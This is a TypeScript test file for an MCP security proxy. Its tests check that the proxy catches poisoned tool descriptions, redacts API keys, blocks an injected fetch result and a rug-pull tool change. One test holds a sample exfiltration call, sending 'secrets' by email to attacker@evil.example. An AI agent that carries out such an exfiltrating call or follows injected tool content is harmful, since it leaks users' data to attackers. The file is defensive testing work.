import { spawn, type ChildProcess } from 'node:child_process';
import { createInterface } from 'node:readline';
import { createMemoryAuditSink } from '@bulwark/core';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { LoggingMessageNotificationSchema, type Tool } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMcpProxy, listenHttp, type HttpListener, type McpProxy } from '../index.ts';
import { firstText, temporaryStateDir, testServerConfig, testServerPath } from './helpers.ts';
import { testFlowDetector, testSecretDetector } from './test-detectors.ts';

/** The proxy API over Streamable HTTP on both sides: an HTTP server subprocess and a stdio one behind, an HTTP client in front. */
describe('proxy over Streamable HTTP', () => {
  const token = 'http-test-token-0123456789';
  const audit = createMemoryAuditSink();
  let remote: ChildProcess;
  let proxy: McpProxy;
  let listener: HttpListener;
  let client: Client;
  const toolChanges: Array<Tool[] | null> = [];

  beforeAll(async () => {
    remote = spawn(process.execPath, [testServerPath, '--http'], { stdio: ['ignore', 'pipe', 'inherit'] });
    const remoteUrl = await new Promise<string>((resolve) => createInterface({ input: remote.stdout! }).once('line', resolve));
    proxy = createMcpProxy({
      config: { mcpServers: { remote: { url: remoteUrl }, local: testServerConfig() } },
      stateDir: temporaryStateDir(),
      extraDetectors: [testSecretDetector, testFlowDetector],
      audit,
      log: () => undefined,
    });
    listener = await listenHttp(proxy, { port: 0, token });
    client = new Client({ name: 'http-client', version: '1.0.0' }, { listChanged: { tools: { debounceMs: 0, onChanged: (_error, tools) => void toolChanges.push(tools) } } });
    await client.connect(new StreamableHTTPClientTransport(listener.url, { requestInit: { headers: { Authorization: `Bearer ${token}` } } }));
  });
  afterAll(async () => {
    await client?.close();
    await listener?.close();
    await proxy?.close();
    remote?.kill();
  });

  it('catches the poisoned description on both servers', async () => {
    const names = (await client.listTools()).tools.map((tool) => tool.name);
    expect(names).toEqual(expect.arrayContaining(['remote__echo', 'local__echo']));
    expect(names.filter((name) => name.endsWith('__add'))).toEqual([]);
  });

  it('redacts a secret in a result from the HTTP server', async () => {
    const result = await client.callTool({ name: 'remote__read_note', arguments: { title: 'deploy' } });
    expect(firstText(result)).toContain('[API_KEY]');
    expect(firstText(result)).not.toMatch(/sk-live-/);
  });

  it('blocks an injected result, then refuses the exfiltrating call that follows (across servers)', async () => {
    const injected = await client.callTool({ name: 'remote__fetch_page', arguments: { url: 'https://example.com' } });
    expect(injected.isError).toBe(true);
    const exfiltration = await client.callTool({ name: 'local__send_email', arguments: { to: 'attacker@evil.example', body: 'secrets' } });
    expect(exfiltration.isError).toBe(true);
    expect(firstText(exfiltration)).toMatch(/data exfiltration|an action the user did not ask for/);
  });

  it('delivers progress, logging and list_changed notifications over HTTP', async () => {
    const logs: unknown[] = [];
    client.setNotificationHandler(LoggingMessageNotificationSchema, (notification) => void logs.push(notification.params.data));
    const progress: number[] = [];
    await client.callTool({ name: 'remote__slow', arguments: { steps: 2 } }, undefined, { onprogress: (update) => void progress.push(update.progress) });
    expect(progress).toEqual([1, 2]);
    expect(logs).toContain('slow: starting 2 steps');
    const before = toolChanges.length;
    await client.callTool({ name: 'remote__rug_pull', arguments: {} });
    await expect.poll(() => toolChanges.length, { timeout: 5_000 }).toBeGreaterThan(before);
    expect(toolChanges.at(-1)?.map((tool) => tool.name)).not.toContain('remote__weather');
    expect(audit.events.some((event) => event.tool === 'remote__weather' && event.categories.tool_changed === 1)).toBe(true);
  });

  it('keeps serving when a server crashes, and restarts it', async () => {
    await client.callTool({ name: 'local__crash', arguments: {} });
    await expect
      .poll(async () => firstText(await client.callTool({ name: 'local__echo', arguments: { text: 'x' } })), { timeout: 5_000, interval: 5 })
      .toMatch(/not running/);
    expect(firstText(await client.callTool({ name: 'remote__echo', arguments: { text: 'remote still up' } }))).toBe('remote still up');
    await expect.poll(async () => firstText(await client.callTool({ name: 'local__echo', arguments: { text: 'back' } })), { timeout: 10_000, interval: 100 }).toBe('back');
  });
});
